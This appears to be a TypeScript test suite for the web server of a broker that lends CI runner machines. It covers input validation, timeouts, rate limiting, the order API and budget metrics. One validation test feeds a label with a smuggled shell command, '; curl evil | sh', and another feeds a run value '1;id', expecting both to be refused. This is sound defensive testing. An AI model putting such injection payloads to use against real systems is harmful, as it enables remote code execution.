import assert from "node:assert/strict";
import { once } from "node:events";
import { connect } from "node:net";
import { test, type TestContext } from "node:test";
import {
  beginRun,
  boot,
  brokerWorld,
  type BrokerWorld,
  type WorldChanges,
} from "../broker/testing.ts";
import { listJobs } from "../store/questions.ts";
import { openLoans } from "../store/loans.ts";
import { OpenApi } from "../../test/openapi.ts";
import { startWeb, token, type WebUnderTest } from "../../test/web.ts";
import { Metrics } from "./metrics.ts";
import type { ServeOptions } from "./server.ts";

interface Served extends BrokerWorld {
  readonly web: WebUnderTest;
  /** rr's request: what it is answered, and by which status. */
  ask(data: unknown, path?: string): Promise<{ status: number; said: string }>;
}

async function serveBroker(
  t: TestContext,
  changes: WorldChanges = {},
  options: Partial<ServeOptions> = {},
): Promise<Served> {
  const world = await brokerWorld(changes);
  t.after(() => world.close());
  const metrics = new Metrics({ now: Date.now, version: "1" });
  metrics.addBroker(world.broker);
  const web = await startWeb({ broker: world.broker, metrics, ...options });
  t.after(() => web.close());
  const ask: Served["ask"] = async (data, path = "/") => {
    const body = typeof data === "string" ? data : JSON.stringify(data);
    const headers = { "content-type": "application/json" };
    const answer = await fetch(web.url + path, { method: "POST", headers, body });
    return { status: answer.status, said: await answer.text() };
  };
  return { ...world, web, ask };
}

test("rr's requests need no credential, and are answered by nothing or by one line", async (t) => {
  const world = await serveBroker(t);
  const run = beginRun(world);
  const label = `mayfly_${run.id}_1`;
  const create = { operation: "create", architectures: ["x86_64"], label };
  const answer = world.ask(create);
  while ((await boot(world)).length === 0) await new Promise((resolve) => setTimeout(resolve, 10));
  assert.deepEqual(await answer, { status: 200, said: "" });
  assert.deepEqual(await world.ask(create, "/v1/broker"), { status: 200, said: "" });
  const early = await world.ask({ operation: "destroy", label });
  assert.equal(early.status, 409);
  assert.match(early.said, /^"mayfly_[0-9]+_1" is in use: [^\n]+\n$/);
  const unknown = { operation: "destroy", labels: ["mayfly_1_1_x86_64", "mayfly_1_1_arm64"] };
  assert.deepEqual(await world.ask(unknown), { status: 200, said: "" });
});

test("nonsense is refused in one line of text, and records nothing", async (t) => {
  const world = await serveBroker(t);
  const { store, ask } = world;
  const labels = Array.from({ length: 100_000 }, (_, n) => `mayfly_${n + 1}_1`);
  const nonsense: [unknown, number][] = [
    ["", 400],
    ["{", 400],
    ["[]", 400],
    [{ operation: "destroy", label: "" }, 400],
    [{ operation: "destroy", labels: [] }, 400],
    [{ operation: "destroy", labels: labels.slice(0, 100) }, 400],
    [{ operation: "destroy", labels }, 413],
    [
      { operation: "create", architectures: ["x86_64"], label: "mayfly_1_1\n; curl evil | sh" },
      400,
    ],
    [{ operation: "create", architectures: ["x86_64"], label: "mayfly_1_1" }, 403],
  ];
  for (const [data, status] of nonsense) {
    const answer = await ask(data);
    assert.equal(answer.status, status, JSON.stringify(data).slice(0, 80));
    assert.match(answer.said, /^[^\n\p{Cc}]{5,400}\n$/u);
  }
  assert.deepEqual(await openLoans(store.db), []);
  assert.deepEqual(await listJobs(store.db), []);
});

test("a body that comes slowly or never is cut off", async (t) => {
  const { web } = await serveBroker(t, {}, { limits: { bodyMs: 300 } });
  const port = Number(new URL(web.url).port);
  const socket = connect(port, "127.0.0.1");
  t.after(() => socket.destroy());
  await once(socket, "connect");
  const head =
    "POST / HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{";
  socket.write(head);
  let said = "";
  socket.on("data", (bytes: Buffer) => (said += bytes.toString()));
  // It promises more and sends nothing.
  await once(socket, "close");
  assert.match(said, /^HTTP\/1\.1 400 /);
  assert.match(said, /connection: close/i);
});

test("more bodies at once than are held are refused, and the others go on", async (t) => {
  const limits = { strangersBytesMax: 1000, bodyMs: 600_000 };
  const { web, ask } = await serveBroker(t, {}, { limits });
  const port = Number(new URL(web.url).port);
  const socket = connect(port, "127.0.0.1");
  t.after(() => socket.destroy());
  socket.write(`POST / HTTP/1.1\r\nhost: x\r\ncontent-length: 2000\r\n\r\n${"x".repeat(990)}`);
  let status = 0;
  while (status !== 503) ({ status } = await ask({ operation: "destroy", label: "mayfly_1_1" }));
  socket.destroy();
  while (status !== 200) ({ status } = await ask({ operation: "destroy", label: "mayfly_1_1" }));
});

test("an address has its own bucket, behind a proxy of this machine too", async (t) => {
  const { web } = await serveBroker(t);
  const ask = async (from: string): Promise<number> => {
    const headers = { "x-forwarded-for": `203.0.113.9, ${from}` };
    const body = JSON.stringify({ operation: "destroy", label: "mayfly_1_1" });
    return (await fetch(web.url, { method: "POST", headers, body })).status;
  };
  // It is given one more each second: these take less than their number of seconds.
  const many = await Promise.all(Array.from({ length: 200 }, () => ask("192.0.2.1")));
  assert.ok(many.includes(429));
  assert.equal(await ask("192.0.2.2"), 200);
});

test("our own API borrows, waits, tells and gives back", async (t) => {
  const world = await serveBroker(t);
  const { web, fake } = world;
  const api = new OpenApi(await (await fetch(`${web.url}/v1/openapi.json`)).json());
  const run = beginRun(world);
  const label = `mayfly_${run.id}_1`;
  const call = async (
    method: string,
    path: string,
    body?: object,
  ): Promise<[number, Record<string, unknown>]> => {
    const answer = await fetch(web.url + path, {
      method,
      headers: { "content-type": "application/json" },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
    const text = await answer.text();
    const type = answer.headers.get("content-type");
    const plain = path.split("?")[0] ?? path;
    if (type !== null) api.check(method, plain, answer.status, type, JSON.parse(text));
    return [answer.status, text === "" ? {} : (JSON.parse(text) as Record<string, unknown>)];
  };
  const asked = { repository: "Acme/Widget", run: run.id, architectures: ["x86_64"] };
  const [status, order] = await call("POST", "/v1/broker/orders", asked);
  assert.equal(status, 202);
  assert.deepEqual(order, {
    ...{ label, repository: "acme/widget", run: String(run.id), attempt: 1, state: "waiting" },
    url: `${fake.state.api}/repos/acme/widget/actions/runs/${run.id}`,
    machines: [
      {
        ...{ architecture: "x86_64", labels: [label, "arch_x86_64"], state: "waiting" },
        ...{ job: `broker-${label}.x86_64`, reason: "it waits for room in pool intel" },
      },
    ],
  });
  const [soon, still] = await call("GET", `/v1/broker/orders/${label}/wait?seconds=1`);
  assert.deepEqual([soon, still["state"]], [200, "waiting"]);
  const waiting = call("GET", `/v1/broker/orders/${label}/wait?seconds=50`);
  await boot(world);
  assert.equal((await waiting)[1]["state"], "ready");
  assert.equal((await call("GET", `/v1/broker/orders/${label}`))[1]["state"], "ready");
  const [busy, problem] = await call("DELETE", `/v1/broker/orders/${label}`);
  assert.deepEqual([busy, problem["code"]], [409, "conflict"]);
  run.hasMore = false;
  for (const job of fake.state.jobsOf(run)) fake.state.end(job, "success");
  world.clock.offsetMs += 10_000;
  assert.deepEqual(await call("DELETE", `/v1/broker/orders/${label}`), [204, {}]);
  assert.equal((await call("GET", `/v1/broker/orders/${label}`))[1]["state"], "over");
  assert.deepEqual(await call("DELETE", "/v1/broker/orders/mayfly_1_1"), [204, {}]);
  assert.equal((await call("GET", "/v1/broker/orders/mayfly_1_1"))[0], 404);
  for (const wrong of [
    { repository: "acme/widget" },
    { ...asked, more: 1 },
    { ...asked, run: "1;id" },
    { ...asked, architectures: [] },
    { ...asked, label: "x" },
  ]) {
    assert.equal((await call("POST", "/v1/broker/orders", wrong))[0], 400, JSON.stringify(wrong));
  }
  assert.equal((await call("POST", "/v1/broker/orders", { ...asked, repository: "a/b" }))[0], 403);
  const paths = api.operations().filter(({ path }) => path.startsWith("/v1/broker"));
  assert.equal(paths.length, 5);
});

test("without a broker there is none, and the front page takes no posts", async (t) => {
  const web = await startWeb();
  t.after(() => web.close());
  const post = (path: string): Promise<Response> =>
    fetch(web.url + path, { method: "POST", body: "{}" });
  assert.equal((await post("/v1/broker")).status, 404);
  assert.equal((await post("/v1/broker/orders")).status, 404);
  assert.ok((await post("/")).status >= 400);
});

test("the health page and the metrics show what is lent and how the budget stands", async (t) => {
  const price = { microUsdPerHour: 1_000_000, quantumSeconds: 1, minimumSeconds: 0 };
  const world = await serveBroker(t, { price, settings: { microUsdPerDay: 1_000_000 } });
  const run = beginRun(world);
  const refused = await world.ask({
    operation: "create",
    architectures: ["x86_64"],
    label: `mayfly_${run.id}_1`,
  });
  assert.equal(refused.status, 403);
  assert.match(refused.said, /budget/);
  const headers = { authorization: `Bearer ${token}`, accept: "text/html" };
  const page = await (await fetch(`${world.web.url}/health`, { headers })).text();
  assert.match(page, /0 machines lent now/);
  assert.match(page, /orders are refused/);
  const metrics = await (await fetch(`${world.web.url}/metrics`, { headers })).text();
  assert.match(metrics, /^mayfly_broker_budget_alert 2$/m);
  assert.match(metrics, /^mayfly_broker_requests_total\{operation="create",status="403"\} 1$/m);
});
